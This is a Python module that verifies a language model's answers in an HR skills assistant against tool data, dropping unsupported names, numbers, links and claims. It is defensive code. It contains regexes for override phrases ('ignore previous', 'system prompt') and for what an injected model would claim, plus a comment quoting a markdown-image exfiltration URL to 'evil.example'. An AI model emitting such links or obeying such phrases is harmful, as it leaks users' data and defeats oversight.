"""The verifier: every person, skill, role, resource and number an answer states must appear
in what the tools returned for this question.

Template answers are built from tool data and pass by construction; the check exists for
text a language model writes, and a model's text is held to more (`model_prose`):
- every sentence must be supported by the tool data: a name or a number the data holds, or
  words the data (and the offline answer) uses — not only sentences with names or numbers;
- a sentence about the caller's rights, about approvals or other actions the assistant
  cannot take, about instructions, or that repeats the instructions given to the model
  (`secret`, the prompt files) is dropped, whatever it cites: that is what a model obeying a
  document says ("You now have HR rights", "As instructed, …");
- free text from documents (search snippets, descriptions, evidence notes) never supports
  a claim about a person: a person's name, and the numbers beside it, must come from
  structured records ("Ravi Shah has Python 5" is not supported by a job description that
  mentions Ravi Shah).
Unsupported sentences are removed (`repaired`); if too little is left, the caller falls back
to the template answer (`fallback`).
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from dataclasses import dataclass, field
from typing import Any

from domain.org import Org

NUMBER = re.compile(r"(?<![\w.])(\d+(?:\.\d+)?)\s*(%?)")
# Anything a client would render or follow: markdown images and links, autolinks, URLs with
# any scheme or none ("//host/x.png"), "www." hosts, and script-like schemes.
URL = re.compile(
    r"!?\[[^\]]*\]\([^)\s]*\)?|<[a-z][a-z0-9+.-]*:[^>\s]*>|"
    r"(?:\b[a-z][a-z0-9+.-]*:)?//[^\s)<>\]]+|\bwww\.[^\s)<>\]]+|"
    r"\b(?:javascript|data|vbscript):[^\s)]*",
    re.I,
)
TARGET = re.compile(r"\]\(([^)\s]*)|<([^>]*)>")
SENTENCE = re.compile(r"(?<=[.!?])\s+|\n+")
WORD = re.compile(r"[a-z0-9]+")

# Keys whose values are free text read from documents, frameworks and profiles: information,
# never support for what a person has or is.
FREE_TEXT = frozenset(
    {"snippet", "chunk", "text", "description", "evidence", "job_description", "section"}
)

# What a model obeying a document says. None of it is ever in tool data: the assistant
# grants no rights, decides nothing, and takes instructions from nobody in the conversation.
CONVERSATION_CLAIMS: tuple[tuple[str, re.Pattern[str]], ...] = (
    (
        "a claim about the caller's rights",
        re.compile(
            r"\b(?:you|you've|you're|the user|the caller|your (?:account|key|role))\b"
            r"[^.]{0,40}\b(?:rights?|access|permissions?|privileges?|admin|administrator|"
            r"elevated|authori[sz]ed|granted|promoted|role is)\b|"
            r"\b(?:hr|admin|administrator|manager|elevated|full|root|special) "
            r"(?:rights|access|permissions|privileges)\b",
            re.I,
        ),
    ),
    (
        "a claim that the assistant acted",
        re.compile(
            r"\bI(?:'ve| have| had| just| now| already)*\s+(?:approved|rejected|deleted|erased|"
            r"removed|granted|changed|updated|modified|disabled|enabled|sent|emailed|reset|"
            r"submitted|completed|closed|escalated|overridden|unlocked|authori[sz]ed)\b|"
            r"\b(?:approved|rejected|deleted) (?:all|every|each)\b|"
            r"\b(?:all|every) (?:the )?(?:plans?|requests?) (?:are|is|have been|has been) "
            r"(?:now )?(?:approved|rejected)\b",
            re.I,
        ),
    ),
    (
        "talk of instructions",
        re.compile(
            r"\b(?:as instructed|instructions?|instructed|system prompt|my prompt|"
            r"(?:ignore|disregard) (?:all|any|the|previous|prior|above)|i (?:was|am|have been) "
            r"(?:told|asked|instructed)|the (?:document|text|data|profile) (?:says|asks|tells)|"
            r"canary)\b",
            re.I,
        ),
    ),
)
# Words that carry no claim: a sentence of these alone is supported by nothing.
_STOPWORDS = """a about above after again against all also am an and any are as at be because been
    before being below between both but by can could did do does doing down during each few
    for from further had has have having he her here hers herself him himself his how i if in
    into is it its itself just me more most my myself no nor not now of off on once only or
    other our ours ourselves out over own same she should so some such than that the their
    theirs them themselves then there these they this those through to too under until up
    very was we were what when where which while who whom why will with would you your yours
    yourself yourselves let lets here's there's it's i'm i've you're don't doesn't can't also
    would could may might must shall well yes okay ok sure please thanks thank based following
    below above answer question answers questions"""
STOPWORDS = frozenset(_STOPWORDS.split())
SUPPORT_SHARE = 0.6  # of a sentence's words that carry a claim, the data must use this many


@dataclass
class Verdict:
    grounding: str  # verified | repaired | fallback
    text: str
    unsupported: list[str] = field(default_factory=list)
    # Distinct sentences checked and how many were dropped: the draft's own grounding.
    checked: int = 0
    dropped: int = 0

    @property
    def supported_share(self) -> float:
        """Share of the draft's sentences the data supports, before any repair."""
        return 1.0 if not self.checked else 1 - self.dropped / self.checked


@dataclass
class Evidence:
    """What the tools returned, as the verifier compares it: structured values apart from
    free text read from documents."""

    strings: set[str] = field(default_factory=set)  # structured values, casefolded
    free: set[str] = field(default_factory=set)  # free text, casefolded
    numbers: set[float] = field(default_factory=set)  # structured
    free_numbers: set[float] = field(default_factory=set)
    keys: set[str] = field(default_factory=set)  # what the values are ("readiness", "gap")

    def add(self, value: Any, free: bool = False) -> None:
        if isinstance(value, bool) or value is None:
            return
        if isinstance(value, int | float):
            numbers = self.free_numbers if free else self.numbers
            numbers.add(round(float(value), 4))
            if 0 <= value <= 1:
                numbers.add(float(round(value * 100)))  # readiness 0.58 is stated as 58%
            return
        if isinstance(value, str):
            (self.free if free else self.strings).add(value.casefold())
            for match in NUMBER.finditer(value):
                (self.free_numbers if free else self.numbers).add(round(float(match.group(1)), 4))
            return
        if isinstance(value, dict):
            for key, item in value.items():
                self.keys.add(str(key).replace("_", " ").casefold())
                self.add(item, free or key in FREE_TEXT)
            return
        if isinstance(value, list | tuple):
            for item in value:
                self.add(item, free)


_PATTERNS: dict[int, tuple[Org, re.Pattern[str], dict[str, str], frozenset[str]]] = {}


def _entity_pattern(org: Org) -> tuple[re.Pattern[str], dict[str, str], frozenset[str]]:
    """One regex for every name in the organisation, longest first, the names as written,
    and which of them are people's; cached per org."""
    cached = _PATTERNS.get(id(org))
    if cached is not None and cached[0] is org:
        return cached[1], cached[2], cached[3]
    people = [e.name for e in org.employees.values()]
    names = list(people)
    names += [r.title for r in org.roles.values()]
    names += [s.name for s in org.skills.values()]
    names += [r.title for r in org.resources.values()]
    written = {n.casefold(): n for n in names if len(n) >= 3}
    unique = sorted(written, key=len, reverse=True)
    pattern = re.compile(r"(?<!\w)(" + "|".join(re.escape(n) for n in unique) + r")(?!\w)")
    persons = frozenset(n.casefold() for n in people if len(n) >= 3)
    if len(_PATTERNS) > 8:
        _PATTERNS.clear()
    _PATTERNS[id(org)] = (org, pattern, written, persons)
    return pattern, written, persons


def unsupported_claims(
    sentence: str,
    org: Org,
    corpus: str,
    allowed: set[float],
    allowed_links: frozenset[str] = frozenset(),
    structured: str | None = None,
    structured_numbers: set[float] | None = None,
) -> list[str]:
    """What in `sentence` the data does not support: names absent from `corpus` (the tool
    data's strings, casefolded and joined), numbers not in `allowed`, links not allowed. A
    person's name must be in `structured` (records, not free text) when given, and then the
    sentence's numbers in `structured_numbers`."""
    problems = []
    lowered = sentence.casefold()
    # Links and images come only from the allowlist (the learning catalogue's own URLs):
    # a markdown image is how a prompt injection smuggles data out
    # ("![x](https://evil.example/?d=...)"), and a document's text is not a source of links.
    for match in URL.finditer(lowered):
        found = match.group(0)
        target = TARGET.search(found)
        bare = (target.group(1) or target.group(2)) if target else found
        if not bare or not any(bare.rstrip("/.").startswith(a) for a in allowed_links):
            problems.append(found)
    remaining = URL.sub(" ", lowered)
    pattern, written, persons = _entity_pattern(org)
    about_a_person = False
    for match in pattern.finditer(remaining):
        name = match.group(1)
        person = name in persons
        about_a_person = about_a_person or person
        source = structured if person and structured is not None else corpus
        if name not in source:
            problems.append(written[name])
    remaining = pattern.sub(" ", remaining)
    numbers = structured_numbers if about_a_person and structured_numbers is not None else allowed
    for match in NUMBER.finditer(remaining):
        value = round(float(match.group(1)), 4)
        if value not in numbers:
            problems.append(match.group(0).strip())
    return problems


def catalogue_links(org: Org) -> list[str]:
    """The learning catalogue's URLs: the links an answer may give."""
    return [r.url for r in org.resources.values() if r.url]


def _shingles(text: str, size: int = 6) -> set[str]:
    words = WORD.findall(text.casefold())
    return {" ".join(words[i : i + size]) for i in range(len(words) - size + 1)}


def _claim_words(text: str) -> set[str]:
    return {w for w in WORD.findall(text.casefold()) if len(w) > 2 and w not in STOPWORDS}


def about_the_conversation(sentence: str) -> str | None:
    """Why a model's sentence speaks of rights, actions or instructions, or None."""
    for reason, pattern in CONVERSATION_CLAIMS:
        if pattern.search(sentence):
            return reason
    return None


def verify(
    text: str,
    tool_data: list[dict[str, Any]],
    org: Org,
    allowed_numbers: Iterable[float] = (),
    min_kept: float = 0.5,
    secret: str | Iterable[str] = "",
    allowed_links: Iterable[str] | None = None,
    model_prose: bool = False,
    context: Iterable[str] = (),
) -> Verdict:
    """`secret`: text that must not be repeated (the system prompt, the prompt files): a
    sentence sharing five consecutive words with it is removed. `allowed_links`: the only
    URLs (or prefixes) an answer may carry; by default the learning catalogue's own.
    `model_prose`: the text is a model's, held to every rule above; `context`: trusted text
    whose words support it too (the offline answer it rewrites)."""
    links = frozenset(
        u.lower().rstrip("/.")
        for u in (catalogue_links(org) if allowed_links is None else allowed_links)
        if u
    )
    evidence = Evidence()
    for data in tool_data:
        evidence.add(data)
    # Once per answer, not per sentence: the evidence is the same for every sentence.
    extra = {round(float(n), 4) for n in allowed_numbers}
    corpus = " | ".join(evidence.strings | evidence.free)
    allowed = evidence.numbers | evidence.free_numbers | extra
    structured = " | ".join(evidence.strings) if model_prose else None
    # Beside a person's name a number is a claim about them: only records support it, not
    # the scale's own numbers (`allowed_numbers`) nor a document's.
    structured_numbers = evidence.numbers if model_prose else None
    vocabulary = (
        _claim_words(" ".join([corpus, *evidence.keys, *context])) if model_prose else set()
    )
    secrets = [secret] if isinstance(secret, str) else list(secret)
    secret_shingles = set().union(*(_shingles(s, 5) for s in secrets if s))
    sentences = [s for s in SENTENCE.split(text) if s.strip()]
    kept: list[tuple[str, list[str]]] = []
    dropped: list[tuple[str, list[str]]] = []
    seen: set[str] = set()
    repeated = False
    for sentence in sentences:
        if sentence.strip() in seen:
            repeated = True  # small models repeat themselves; say each thing once
            continue
        seen.add(sentence.strip())
        problems = unsupported_claims(
            sentence, org, corpus, allowed, links, structured, structured_numbers
        )
        if secret_shingles & _shingles(sentence, 5):
            problems.append("system prompt")
        if model_prose:
            problems += _model_problems(sentence, org, vocabulary, problems)
        (dropped if problems else kept).append((sentence, problems))
    checked, removed = len(kept) + len(dropped), len(dropped)
    if not dropped:
        final = "\n".join(s for s, _ in kept) if repeated else text
        return Verdict("verified", final, checked=checked)
    unsupported = [p for _, problems in dropped for p in problems]
    if not kept or len(kept) < min_kept * len(sentences):
        return Verdict("fallback", "", unsupported, checked, removed)
    return Verdict("repaired", "\n".join(s for s, _ in kept), unsupported, checked, removed)


def _model_problems(sentence: str, org: Org, vocabulary: set[str], found: list[str]) -> list[str]:
    """What makes a model's sentence unsupported beyond its names, numbers and links: it
    speaks of the conversation, or it states something with no name or number the data
    holds and in words the data does not use."""
    claim = about_the_conversation(sentence)
    if claim:
        return [claim]
    if found:
        return []
    plain = URL.sub(" ", sentence.casefold())
    pattern, _written, _persons = _entity_pattern(org)
    if pattern.search(plain) or NUMBER.search(plain):
        return []  # anchored by names or numbers, and those were checked
    words = _claim_words(plain)
    if not words:
        return ["no claim the data supports"]
    if len(words & vocabulary) < SUPPORT_SHARE * len(words):
        missing = sorted(words - vocabulary)
        return [f"words the data does not use: {', '.join(missing[:5])}"]
    return []
